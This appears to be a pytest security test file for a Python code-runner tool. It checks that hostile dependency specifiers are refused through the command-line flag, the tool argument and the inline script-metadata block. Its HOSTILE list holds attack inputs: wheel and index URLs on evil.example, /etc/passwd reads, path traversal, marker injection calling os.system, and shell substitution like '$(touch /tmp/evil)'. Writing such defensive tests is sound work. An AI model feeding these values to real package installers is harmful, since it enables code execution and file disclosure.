"""Attack 39, the grammar: requirements that are addresses, paths, options or something longer.

Expected: each is refused by the rule it breaks, wherever it is given (--deps, the tool's argument,
a PEP 723 block); nothing runs, and the index is asked for nothing. What is no marker is found out
by the guest alone, which reports it as it reports a mistake in the program.
"""

from __future__ import annotations

import json

import pytest
from driver import Program
from victim import Victim

HOSTILE = [
    "demo @ https://evil.example/demo-1.0-py3-none-any.whl",
    "demo@file:///etc/passwd",
    "https://evil.example/demo-1.0-py3-none-any.whl",
    "git+https://evil.example/demo.git",
    "file:///etc/passwd",
    "-r /etc/passwd",
    "--requirement=/etc/passwd",
    "--index-url=https://evil.example/simple",
    "--extra-index-url https://evil.example/simple",
    "-e .",
    "--no-binary=:all:",
    "../../x",
    "./demo",
    "/etc/passwd",
    "demo/../../x",
    "..\\\\x",
    "demo --hash=sha256:0",
    "demo; python_version < '3' or __import__('os')",
    "demo; os.system('true') == ''",
    "demo ; " + "(" * 300 + "os_name == ''" + ")" * 300 + ")",
    "demo==1.0 evil",
    "demo==1.0\n--index-url=https://evil.example",
    "demo\0",
    "demo\x1b[2J",
    "demo==",
    "demo[",
    "demo[a",
    "_demo",
    "demo-",
    "d\u0435mo",
    "demo>=1.0;",
    "d" * 2000,
    "demo" + ",>=1" * 1000,
    "$(touch /tmp/evil)",
    "demo`id`",
    "",
]


@pytest.mark.parametrize("requirement", HOSTILE)
def test_argument(grammar_victim: Victim, requirement: str) -> None:
    result = grammar_victim.call("print('ran')", [requirement])
    is_marker = "is no marker" in result["error"]["message"]
    assert result["status"] in (("run-error",) if is_marker else ("refused", "install-error"))
    assert is_marker is (";" in requirement and requirement != "demo>=1.0;")
    assert result["stdout"] == ""
    assert grammar_victim.index.asked == []


@pytest.mark.parametrize("requirement", HOSTILE)
def test_block(grammar_victim: Victim, requirement: str) -> None:
    listed = json.dumps([requirement])
    code = f"# /// script\n# dependencies = {listed}\n# ///\nprint('ran')"
    result = grammar_victim.call(code)
    # A bad block is the program's mistake: a SyntaxError with its line.
    assert result["status"] == "run-error", result
    assert result["error"]["type"] == "SyntaxError"
    assert result["stdout"] == ""
    assert grammar_victim.index.asked == []


@pytest.mark.parametrize("requirement", [text for text in HOSTILE if text and "\0" not in text])
def test_option(grammar_victim: Victim, vitrine: Program, requirement: str) -> None:
    done = vitrine(
        "run", f"--deps={requirement}", "-c", "print('ran')", env=grammar_victim.environment
    )
    assert done.stdout == b""
    assert done.returncode == (1 if b"is no marker" in done.stderr else 2), done
    assert b"\x1b" not in done.stderr
    assert grammar_victim.index.asked == []


def test_too_many(victim: Victim) -> None:
    many = [f"demo{i}" for i in range(5000)]
    result = victim.call("print('ran')", many)
    assert (result["status"], result["stdout"]) == ("refused", "")
    assert victim.index.asked == []


def test_what_is_no_text(victim: Victim) -> None:
    for wrong in ([1], [None], [["demo"]], [{"demo": 1}], "demo", {"demo": "1"}, 7):
        message = victim.server.call_message("print('ran')")
        message["params"]["arguments"]["dependencies"] = wrong
        victim.server.send(message)
        answer = victim.server.answer_to(message["id"])
        assert "error" in answer or answer["result"]["isError"], answer
        assert "ran" not in json.dumps(answer.get("result", {}).get("content", ""))
    assert victim.index.asked == []
